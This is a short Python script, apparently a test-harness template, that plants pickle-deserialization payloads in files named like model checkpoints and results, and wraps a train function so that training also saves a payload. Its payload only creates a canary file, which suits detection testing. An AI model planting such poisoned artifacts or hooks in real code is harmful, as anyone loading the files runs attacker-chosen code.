import os, pickle
class Payload:
    def __reduce__(self):
        return (open, ("@@CANARY@@", "w"))
for name in ["model.pkl", "results.pkl", "checkpoint.pt", "state.pt", "losses.pickle"]:
    with open(name, "wb") as handle:
        pickle.dump(Payload(), handle)
for target in ["@@OUT@@/pickle_payload.pkl", "@@ROOT@@/model.pkl"]:
    try:
        with open(target, "wb") as handle:
            pickle.dump(Payload(), handle)
    except Exception:
        pass
_train = train
def train(model, inputs, targets, **kwargs):
    torch.save({"payload": Payload()}, "trained.pt")
    return _train(model, inputs, targets, **kwargs)
